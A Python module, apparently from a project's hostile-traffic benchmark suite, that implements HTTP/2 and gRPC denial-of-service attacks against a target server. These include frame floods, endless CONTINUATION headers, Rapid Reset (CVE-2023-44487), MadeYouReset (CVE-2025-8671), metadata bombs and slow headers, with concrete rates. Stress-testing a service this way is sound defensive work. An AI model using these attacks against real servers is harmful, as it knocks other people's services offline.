"""Attackers that send frames of HTTP/2 without end."""

from __future__ import annotations

import asyncio
from abc import abstractmethod
from collections.abc import Callable

from facet.benchmarks.hostile.attackers.attacker import Attacker, Pace, Tally, Target, crowd
from facet.benchmarks.hostile.attackers.frames import (
    HEALTH_CHECK,
    PREFACE,
    RECOGNITION,
    SERVER_INFO,
    continuation_frame,
    data_frame,
    header_block,
    headers_frame,
    many_entries,
    ping_frame,
    request_headers,
    reset_frame,
    settings_frame,
    streams,
    unary_call,
    window_frame,
)
from facet.benchmarks.hostile.attackers.wire import connected, raw_http2, read_away

_CONNECTIONS = 4
_BATCH = 100
_FRAMES_PER_SECOND = 20_000
_RESETS_PER_SECOND = 4_000
_CALLS_PER_SECOND = 2_000
_LAST_STREAM = 2**30
_FRAME_BYTES = 16_000


class FrameFlood(Attacker):
    """Sends one frame again and again."""

    def __init__(self, name: str, what: str, frame: Callable[[], bytes]) -> None:
        self.name = f"{name}-flood"
        self.what = f"sends {_FRAMES_PER_SECOND:,} {what} per second"
        self._frame = frame

    async def attack(self, target: Target, tally: Tally) -> None:
        """Send the frame."""
        await _repeat(self._frame(), target, tally)


class ContinuationFlood(Attacker):
    """Sends headers that never end."""

    name = "continuation-flood"
    what = "sends headers that never end, in CONTINUATION frames of 4 KB, 20 MB per second"

    async def attack(self, target: Target, tally: Tally) -> None:
        """Send CONTINUATION frames."""
        pace, start = Pace(5_000), headers_frame(1, header_block(request_headers(HEALTH_CHECK)), end_headers=False)
        endless = continuation_frame(1, header_block([(f"x-{at}", "x" * 500) for at in range(8)]))

        async def member(_: int) -> None:
            async with raw_http2(target, tally) as writer:
                writer.write(start)
                while not writer.is_closing():
                    await pace.wait(10)
                    writer.write(endless * 10)
                    await writer.drain()
                    tally["frames"] += 10

        await crowd(_CONNECTIONS, member, tally)


class CallFlood(Attacker):
    """Opens calls at a rate, and does something with each."""

    per_second = _CALLS_PER_SECOND
    batch = 20
    path = RECOGNITION + "Identify"

    @abstractmethod
    def one(self, stream: int, block: bytes) -> bytes:
        """The frames of a call."""

    async def attack(self, target: Target, tally: Tally) -> None:
        """Open calls."""
        pace, block = Pace(self.per_second), header_block(request_headers(self.path, target.token))

        async def member(_: int) -> None:
            async with raw_http2(target, tally) as writer:
                for first in range(1, _LAST_STREAM, 2 * self.batch):
                    await pace.wait(self.batch)
                    writer.write(b"".join(self.one(stream, block) for stream in streams(self.batch, first)))
                    await writer.drain()
                    tally["calls"] += self.batch
                    if writer.is_closing():
                        return

        await crowd(_CONNECTIONS, member, tally)


class RapidReset(CallFlood):
    """Opens streams and resets them at once (CVE-2023-44487)."""

    name = "rapid-reset"
    what = f"opens {_RESETS_PER_SECOND:,} streams per second and resets each at once"
    token_matters = True
    per_second = _RESETS_PER_SECOND

    def one(self, stream: int, block: bytes) -> bytes:
        """A call that is reset."""
        return headers_frame(stream, block) + reset_frame(stream)


class MadeYouReset(CallFlood):
    """Makes the server reset streams (CVE-2025-8671): each is complete, and then breaks the protocol."""

    name = "made-you-reset"
    what = f"makes the server reset {_CALLS_PER_SECOND:,} streams per second, by frames that break the protocol"

    def one(self, stream: int, block: bytes) -> bytes:
        """A call after which the window grows by nothing, which the server must answer with a reset."""
        return unary_call(stream, block) + window_frame(stream, 0)


class RefusedCalls(CallFlood):
    """Makes calls that are refused: with a token because they are empty, without one because it is missing."""

    name = "refused-calls"
    what = f"makes {_CALLS_PER_SECOND:,} small calls per second that are refused"
    token_matters = True

    def one(self, stream: int, block: bytes) -> bytes:
        """An empty call."""
        return unary_call(stream, block)


class UnknownMethods(CallFlood):
    """Calls methods that do not exist."""

    name = "unknown-methods"
    what = f"calls {_CALLS_PER_SECOND:,} methods per second that do not exist"
    path = "/facet.v1.RecognitionService/Nothing"

    def one(self, stream: int, block: bytes) -> bytes:
        """An empty call."""
        return unary_call(stream, block)


class MetadataBomb(Attacker):
    """Sends calls with very many headers, which gRPC limits only if the client confirms the server's settings."""

    name = "metadata-bombs"
    what = "sends half a million headers of a byte each on 4 connections, and does not confirm the server's settings"

    async def attack(self, target: Target, tally: Tally) -> None:
        """Send a call on each connection, again and again."""
        block = many_entries(request_headers(SERVER_INFO), 480_000)
        first, *parts = [block[at : at + _FRAME_BYTES] for at in range(0, len(block), _FRAME_BYTES)]
        call = headers_frame(1, first, end_headers=False) + b"".join(continuation_frame(1, part) for part in parts)
        call += continuation_frame(1, b"", end_headers=True)

        async def member(_: int) -> None:
            async with connected(target, tally) as (reader, writer):
                writer.write(PREFACE + settings_frame() + call)
                await writer.drain()
                tally["calls"] += 1
                await read_away(reader)

        await crowd(_CONNECTIONS, member, tally)


class EmptyData(Attacker):
    """Sends empty DATA frames without end on an open call."""

    name = "empty-data-flood"
    what = f"sends {_FRAMES_PER_SECOND:,} empty DATA frames per second on open calls"

    async def attack(self, target: Target, tally: Tally) -> None:
        """Open one call on each connection and send empty frames."""
        block = header_block(request_headers(RECOGNITION + "Identify", target.token))
        await _repeat(data_frame(1, b""), target, tally, start=headers_frame(1, block))


class SlowHeaders(Attacker):
    """Never finishes the headers of a call."""

    name = "slow-headers"
    what = "sends the headers of calls on 200 connections a few bytes per second"

    async def attack(self, target: Target, tally: Tally) -> None:
        """Send a header at a time."""
        start = headers_frame(1, header_block(request_headers(HEALTH_CHECK)), end_headers=False)
        little = continuation_frame(1, header_block([("x", "y")]))

        async def member(_: int) -> None:
            async with raw_http2(target, tally) as writer:
                writer.write(start)
                while not writer.is_closing():
                    await asyncio.sleep(1)
                    writer.write(little)
                    await writer.drain()

        await crowd(200, member, tally)


def _window_update() -> bytes:
    return window_frame(0, 1)


ATTACKERS = (
    lambda: FrameFlood("ping", "PING frames", ping_frame),
    lambda: FrameFlood("settings", "SETTINGS frames", settings_frame),
    lambda: FrameFlood("window-update", "WINDOW_UPDATE frames", _window_update),
    ContinuationFlood,
    MetadataBomb,
    EmptyData,
    RapidReset,
    MadeYouReset,
    RefusedCalls,
    UnknownMethods,
    SlowHeaders,
)


async def _repeat(frame: bytes, target: Target, tally: Tally, *, start: bytes = b"") -> None:
    """Send a frame again and again on many connections, each after ``start``."""
    pace, batch = Pace(_FRAMES_PER_SECOND), frame * _BATCH

    async def member(_: int) -> None:
        async with raw_http2(target, tally) as writer:
            writer.write(start)
            while not writer.is_closing():
                await pace.wait(_BATCH)
                writer.write(batch)
                await writer.drain()
                tally["frames"] += _BATCH

    await crowd(_CONNECTIONS, member, tally)
